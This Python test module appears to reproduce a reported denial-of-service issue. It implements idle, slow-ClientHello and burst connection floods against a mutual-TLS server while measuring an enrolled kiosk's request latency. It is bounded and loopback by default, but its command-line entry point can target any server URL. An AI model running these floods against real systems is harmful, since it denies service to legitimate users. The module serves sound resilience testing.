"""Connection floods by a peer without a client certificate, and an enrolled kiosk's view of
the server meanwhile. Loopback only; every loop is bounded in count and time.

`Flood` runs on its own event loop in a thread. Its attackers:
- *idle*: open TCP connections, send nothing, hold each until just before the server's
  handshake deadline, then replace it; at most `rate` new connections a second and `target`
  at once (issue 17: about 260 held, under 30 new a second);
- *slow*: the same, but trickling a genuine TLS ClientHello one byte at a time;
- *burst*: many connections at a high rate (hundreds a second), up to `target`.

`probe_kiosk` makes one complete request as an enrolled kiosk on a fresh connection (TCP,
mutual-TLS handshake, GET /health) and returns its latency, or None when it failed.

`python -m tests.hostile.flood --url URL --bundle DIR --hold SECONDS` runs the issue's attack
against any running server (this is how it was run once against the old server).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import multiprocessing
import socket
import ssl
import statistics
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

ATTACK_RATE = 29.0  # new connections a second, "under 30"
ATTACK_TARGET = 260  # connections held at once


def client_hello() -> bytes:
    """The first flight of a real TLS client (what a slow sender trickles)."""
    context = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    return outgoing.read()


class FloodStats:
    """Counters shared with the attacker's process."""

    def __init__(self) -> None:
        self._values = {
            name: multiprocessing.Value("i", 0, lock=False)
            for name in ("opened", "refused", "closed_by_server", "held", "held_peak")
        }

    def __getattr__(self, name: str) -> int:
        return int(self._values[name].value)

    def add(self, name: str, amount: int = 1) -> None:
        self._values[name].value += amount
        if name == "held":
            peak = self._values["held_peak"]
            peak.value = max(peak.value, self._values["held"].value)

    def __repr__(self) -> str:
        return "FloodStats(" + ", ".join(f"{n}={v.value}" for n, v in self._values.items()) + ")"


@dataclass
class Flood:
    """The attacker, in a process of its own (so it competes for the cores, not for the
    prober's interpreter lock)."""

    host: str
    port: int
    kind: str = "idle"  # idle | slow | burst
    rate: float = ATTACK_RATE
    target: int = ATTACK_TARGET
    hold: float = 4.5  # seconds before the attacker replaces a connection itself
    source: str = "127.0.0.2"  # the attacker's own loopback address
    sources: int = 1  # spread over this many addresses from `source` on (127.0.0.2, .3, ...)
    seconds: float = 30.0  # hard bound on the whole flood
    stats: FloodStats = field(default_factory=FloodStats)
    _stop: Any = field(default_factory=multiprocessing.Event)
    _process: Any = None

    def start(self) -> Flood:
        self._process = multiprocessing.get_context("fork").Process(
            target=lambda: asyncio.run(self._run()), daemon=True
        )
        self._process.start()
        return self

    def stop(self) -> None:
        self._stop.set()
        if self._process is not None:
            self._process.join(timeout=15)
            if self._process.is_alive():
                self._process.kill()

    def wait_until_opened(self, count: int, timeout: float) -> bool:
        """Wait until the attacker has opened `count` connections (a full cycle)."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if self.stats.opened >= count:
                return True
            time.sleep(0.1)
        return False

    async def _run(self) -> None:
        hello = client_hello()
        ended = time.monotonic() + self.seconds
        tasks: set[asyncio.Task[None]] = set()
        interval = 1.0 / self.rate
        next_open = time.monotonic()
        while not self._stop.is_set() and time.monotonic() < ended:
            if len(tasks) >= self.target:
                await asyncio.sleep(0.01)
                continue
            now = time.monotonic()
            if now < next_open:
                await asyncio.sleep(next_open - now)
                continue
            next_open = max(next_open + interval, now - 1.0)  # no catching up in bursts
            task = asyncio.create_task(self._hold_one(hello))
            tasks.add(task)
            task.add_done_callback(tasks.discard)
        for task in list(tasks):
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)

    async def _hold_one(self, hello: bytes) -> None:
        loop = asyncio.get_running_loop()
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        try:
            base = self.source.rsplit(".", 1)
            address = f"{base[0]}.{int(base[1]) + self.stats.opened % self.sources}"
            sock.bind((address, 0))
            await asyncio.wait_for(loop.sock_connect(sock, (self.host, self.port)), 5)
        except (OSError, TimeoutError):
            self.stats.add("refused")
            sock.close()
            return
        self.stats.add("opened")
        self.stats.add("held")
        try:
            await asyncio.wait_for(self._occupy(loop, sock, hello), self.hold)
        except TimeoutError:
            pass  # replaced just before the deadline, as the attacker planned
        finally:
            self.stats.add("held", -1)
            sock.close()

    async def _occupy(
        self, loop: asyncio.AbstractEventLoop, sock: socket.socket, hello: bytes
    ) -> None:
        """Hold the connection; return when the server closes it."""
        if self.kind == "slow":
            for byte in hello[:-1]:  # never the whole hello
                try:
                    await loop.sock_sendall(sock, bytes([byte]))
                except OSError:
                    self.stats.add("closed_by_server")
                    return
                await asyncio.sleep(0.4)
        try:
            data = await loop.sock_recv(sock, 1024)
        except OSError:
            data = b""
        if not data:
            self.stats.add("closed_by_server")
            return
        await asyncio.sleep(self.hold)  # the server spoke (an alert); keep holding anyway


@contextlib.contextmanager
def flooding(flood: Flood) -> Iterator[Flood]:
    flood.start()
    try:
        yield flood
    finally:
        flood.stop()


def kiosk_context(bundle: Path) -> ssl.SSLContext:
    context = ssl.create_default_context(cafile=str(bundle / "operator-ca.crt.pem"))
    context.load_cert_chain(str(bundle / "kiosk.crt.pem"), str(bundle / "kiosk.key.pem"))
    return context


def probe_kiosk(
    host: str, port: int, context: ssl.SSLContext, timeout: float = 5.0
) -> float | None:
    """One request on a fresh mutual-TLS connection; its latency in seconds, or None."""
    started = time.perf_counter()
    try:
        with (
            socket.create_connection((host, port), timeout=timeout) as raw,
            context.wrap_socket(raw, server_hostname=host) as tls,
        ):
            tls.sendall(b"GET /health HTTP/1.1\r\nHost: kiosk\r\nConnection: close\r\n\r\n")
            answer = b""
            while chunk := tls.recv(4096):
                answer += chunk
    except OSError:
        return None
    if not answer.startswith(b"HTTP/1.1 200"):
        return None
    return time.perf_counter() - started


@dataclass
class KioskView:
    latencies: list[float]
    failures: int

    @property
    def median(self) -> float:
        return statistics.median(self.latencies) if self.latencies else float("inf")

    @property
    def worst(self) -> float:
        return max(self.latencies) if self.latencies else float("inf")

    def text(self) -> str:
        return (
            f"{len(self.latencies)} served, {self.failures} failed, median "
            f"{self.median * 1000:.0f} ms, worst {self.worst * 1000:.0f} ms"
        )


def watch_kiosk(
    host: str, port: int, context: ssl.SSLContext, seconds: float, every: float = 0.25
) -> KioskView:
    latencies: list[float] = []
    failures = 0
    ended = time.monotonic() + seconds
    while time.monotonic() < ended:
        latency = probe_kiosk(host, port, context)
        if latency is None:
            failures += 1
        else:
            latencies.append(latency)
        time.sleep(every)
    return KioskView(latencies, failures)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--url", required=True)
    parser.add_argument("--bundle", required=True, type=Path, help="an enrolled kiosk's bundle")
    parser.add_argument("--hold", type=float, default=9.5, help="just under the deadline")
    parser.add_argument("--kind", default="idle", choices=["idle", "slow", "burst"])
    parser.add_argument("--seconds", type=float, default=12.0, help="kiosk watch under attack")
    arguments = parser.parse_args()
    address = urlsplit(arguments.url)
    host, port = address.hostname or "127.0.0.1", address.port or 443
    context = kiosk_context(arguments.bundle)
    print("before:", watch_kiosk(host, port, context, 3).text())
    flood = Flood(host, port, kind=arguments.kind, hold=arguments.hold)
    with flooding(flood):
        flood.wait_until_opened(int(ATTACK_RATE * arguments.hold), arguments.hold + 5)
        print(f"attack: {flood.stats.held} held")
        print("during:", watch_kiosk(host, port, context, arguments.seconds).text())
        print(f"attack: {flood.stats}")


if __name__ == "__main__":
    main()
